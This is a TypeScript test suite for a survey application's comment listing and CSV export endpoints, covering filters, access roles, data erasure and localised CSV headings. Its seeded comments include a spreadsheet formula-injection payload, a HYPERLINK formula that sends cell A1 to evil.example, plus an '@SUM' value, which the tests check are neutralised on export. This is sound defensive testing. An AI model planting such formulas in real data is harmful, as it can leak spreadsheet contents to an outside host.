import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { queryRows } from '#db/client'
import { ADMIN, client, createTestApp, seedAdmin, seedUser, signIn } from '../support/app.ts'
import { csvObjects, formulaCells } from '../support/csv.ts'
import { createTestDb, type TestDatabase } from '../support/db.ts'
import { submission } from '../support/survey.ts'

let database: TestDatabase
let harness: ReturnType<typeof createTestApp>

beforeAll(async () => {
  database = await createTestDb()
})
afterAll(() => database.close())
beforeEach(async () => {
  await database.reset()
  harness = createTestApp(database)
  await seedAdmin(harness.deps)
})

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"詳情")'
const DAY = 24 * 60 * 60 * 1000

/**
 * An open assessment answered by three respondents on three days: a customer in English, a
 * customer in 繁體中文 and an employee in 简体中文, with comments and suggested issues.
 */
async function answered() {
  const admin = await signIn(harness.app, ADMIN.email)
  const { id } = (await admin.post('/api/assessments', { name: 'FY2025' })).json
  const url = `/api/assessments/${id}`
  expect((await admin.patch(url, { status: 'open' })).status).toBe(200)
  const token = async (group: string) =>
    (await admin.post(`${url}/links`, { group, kind: 'single-use', count: 1 })).json.links[0]
      .token as string
  const respondents = [
    { token: await token('customers'), locale: 'en' },
    { token: await token('customers'), locale: 'zh-Hant' },
    { token: await token('employees'), locale: 'zh-Hans' },
  ]
  const questionnaire = (await client(harness.app).get(`/api/survey/${respondents[0]!.token}`)).json
  const [first, second, third] = questionnaire.issues.map((issue: { id: string }) => issue.id)
  const bodies = [
    {
      comments: [
        { issueId: second, body: 'Water use at the plant keeps rising.' },
        { issueId: first, body: 'Emissions data should be audited.' },
      ],
      suggestedIssues: 'Animal welfare in the supply chain',
    },
    { comments: [{ issueId: first, body: '排放數據需要第三方核證。' }], suggestedIssues: '' },
    {
      comments: [
        { issueId: third, body: FORMULA },
        { issueId: first, body: '' },
      ],
      suggestedIssues: '@SUM(1+1) 员工心理健康',
    },
  ]
  for (const [i, respondent] of respondents.entries()) {
    const submitted = await client(harness.app).post(
      `/api/survey/${respondent.token}/submit`,
      submission(questionnaire, { locale: respondent.locale, ...bodies[i] }),
    )
    expect(submitted.status, submitted.text).toBe(201)
    harness.clock.advance(DAY)
  }
  return { admin, id: String(id), url, issues: { first, second, third } as Record<string, string> }
}

describe('GET /api/assessments/:id/comments', () => {
  test('lists comments in issue order and suggestions, with group, language and UTC day only', async () => {
    const { admin, url, issues } = await answered()
    const response = await admin.get(`${url}/comments`)
    expect(response.status).toBe(200)
    expect(response.json).toEqual({
      comments: [
        {
          issueId: issues.first,
          group: 'customers',
          locale: 'en',
          body: 'Emissions data should be audited.',
          submittedOn: '2026-03-01',
        },
        {
          issueId: issues.first,
          group: 'customers',
          locale: 'zh-Hant',
          body: '排放數據需要第三方核證。',
          submittedOn: '2026-03-02',
        },
        {
          issueId: issues.second,
          group: 'customers',
          locale: 'en',
          body: 'Water use at the plant keeps rising.',
          submittedOn: '2026-03-01',
        },
        {
          issueId: issues.third,
          group: 'employees',
          locale: 'zh-Hans',
          body: FORMULA,
          submittedOn: '2026-03-03',
        },
      ],
      suggestions: [
        {
          group: 'customers',
          locale: 'en',
          body: 'Animal welfare in the supply chain',
          submittedOn: '2026-03-01',
        },
        {
          group: 'employees',
          locale: 'zh-Hans',
          body: '@SUM(1+1) 员工心理健康',
          submittedOn: '2026-03-03',
        },
      ],
    })
  })

  test('filters by group, language, issue and text; blank filters are no filter', async () => {
    const { admin, url, issues } = await answered()
    const bodies = async (query: string) => {
      const response = await admin.get(`${url}/comments?${query}`)
      expect(response.status, query).toBe(200)
      return [
        response.json.comments.map((c: { body: string }) => c.body),
        response.json.suggestions.map((s: { body: string }) => s.body),
      ]
    }
    expect(await bodies('group=employees')).toEqual([[FORMULA], ['@SUM(1+1) 员工心理健康']])
    expect(await bodies('locale=zh-Hant')).toEqual([['排放數據需要第三方核證。'], []])
    // `issue` narrows the comments; suggestions belong to no issue and stay.
    expect(await bodies(`issue=${issues.first}&group=customers`)).toEqual([
      ['Emissions data should be audited.', '排放數據需要第三方核證。'],
      ['Animal welfare in the supply chain'],
    ])
    expect(await bodies('q=WATER')).toEqual([['Water use at the plant keeps rising.'], []])
    expect(await bodies(`q=${encodeURIComponent('第三方')}`)).toEqual([
      ['排放數據需要第三方核證。'],
      [],
    ])
    expect(await bodies(`q=${encodeURIComponent('supply')}`)).toEqual([
      [],
      ['Animal welfare in the supply chain'],
    ])
    // Search text is matched literally, not as a LIKE pattern.
    expect(await bodies(`q=${encodeURIComponent('%')}`)).toEqual([[], []])
    expect(await bodies('group=&locale=&issue=&q=')).toEqual(await bodies(''))
    expect(await bodies('group=suppliers')).toEqual([[], []])

    const bad = await admin.get(`${url}/comments?locale=fr&issue=abc&q=${'x'.repeat(201)}`)
    expect(bad.status).toBe(400)
    expect(Object.keys(bad.json.error.fields).sort()).toEqual(['issue', 'locale', 'q'])
  })

  test('readers of comments only: viewers 403, other organisations 404 as for none, signed out 401', async () => {
    const { admin, url } = await answered()
    const [org] = await queryRows<{ id: number }>(
      database.db,
      sql`SELECT id::int FROM organisations ORDER BY id LIMIT 1`,
    )
    for (const role of ['analyst', 'reviewer', 'approver', 'viewer'] as const) {
      await seedUser(database, { email: `${role}@example.com`, role, organisationId: org!.id })
    }
    await seedUser(database, { email: 'other@example.com', role: 'admin' })
    for (const role of ['analyst', 'reviewer', 'approver']) {
      const member = await signIn(harness.app, `${role}@example.com`)
      expect((await member.get(`${url}/comments`)).status, role).toBe(200)
      expect((await member.get(`${url}/comments.csv`)).status, role).toBe(200)
    }
    const viewer = await signIn(harness.app, 'viewer@example.com')
    const outsider = await signIn(harness.app, 'other@example.com')
    for (const path of [`${url}/comments`, `${url}/comments.csv`]) {
      const refused = await viewer.get(path)
      expect([refused.status, refused.json.error.code]).toEqual([403, 'forbidden'])
      expect(refused.text).not.toContain('Water')
      const foreign = await outsider.get(path)
      expect([foreign.status, foreign.json.error.code]).toEqual([404, 'not_found'])
      expect(foreign.text).not.toContain('Water')
      expect((await client(harness.app).get(path)).status).toBe(401)
    }
    expect((await admin.get('/api/assessments/999999/comments')).status).toBe(404)
    expect((await admin.get('/api/assessments/999999/comments.csv')).status).toBe(404)
    expect((await admin.get('/api/assessments/abc/comments')).status).toBe(404)
  })

  test('the retention erasure removes comments and suggestions from both endpoints', async () => {
    const { admin, url } = await answered()
    expect((await admin.patch(url, { status: 'closed' })).status).toBe(200)
    const erased = await admin.post(`${url}/personal-data/erase`, {
      reason: 'Retention period of the FY2025 survey ended.',
    })
    expect(erased.status, erased.text).toBe(200)
    expect(erased.json.erased.comments).toBe(4)
    expect((await admin.get(`${url}/comments`)).json).toEqual({ comments: [], suggestions: [] })
    const csv = (await admin.get(`${url}/comments.csv`)).text
    expect(csvObjects(csv)).toEqual([])
    const [left] = await queryRows<{ comments: number; suggestions: number }>(
      database.db,
      sql`SELECT (SELECT count(*) FROM response_comments)::int AS comments,
                 (SELECT count(*) FROM responses WHERE suggested_issues IS NOT NULL)::int
                   AS suggestions`,
    )
    expect(left).toEqual({ comments: 0, suggestions: 0 })
  })
})

describe('GET /api/assessments/:id/comments.csv', () => {
  test('UTF-8 with BOM, one row per comment then suggestion, formulas neutralised', async () => {
    const { admin, url } = await answered()
    const response = await harness.app.request(`http://localhost${url}/comments.csv`, {
      headers: { cookie: admin.cookie },
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="FY2025-comments-2026-03-04.csv"; filename*=UTF-8''FY2025-comments-2026-03-04.csv`,
    )
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const csv = new TextDecoder().decode(bytes)
    expect(csv).toContain('\r\n')
    expect(formulaCells(csv)).toEqual([])
    const rows = csvObjects(csv)
    expect(rows.map((row) => [row.Type, row.Code, row['Stakeholder group'], row.Language])).toEqual(
      [
        ['Comment', '1', 'Customers', 'English'],
        ['Comment', '1', 'Customers', '繁體中文'],
        ['Comment', '2', 'Customers', 'English'],
        ['Comment', '3', 'Employees', '简体中文'],
        ['Suggested issue', '', 'Customers', 'English'],
        ['Suggested issue', '', 'Employees', '简体中文'],
      ],
    )
    expect(rows[3]!.Text).toBe(`'${FORMULA}`)
    expect(rows[5]!.Text).toBe("'@SUM(1+1) 员工心理健康")
    expect(rows[0]!['Submitted on (UTC)']).toBe('2026-03-01')
  })

  test('headings and names in the chosen language; the same filters as the JSON', async () => {
    const { admin, url } = await answered()
    const csv = (await admin.get(`${url}/comments.csv?lang=zh-Hant&group=employees`)).text
    const rows = csvObjects(csv)
    expect(Object.keys(rows[0]!)).toEqual([
      '類別',
      '編號',
      '議題',
      '持份者群組',
      '語言',
      '提交日期（UTC）',
      '內容',
    ])
    expect(rows.map((row) => [row.類別, row.持份者群組])).toEqual([
      ['意見', '員工'],
      ['建議議題', '員工'],
    ])
    expect(rows[0]!.議題).not.toBe('')
  })
})
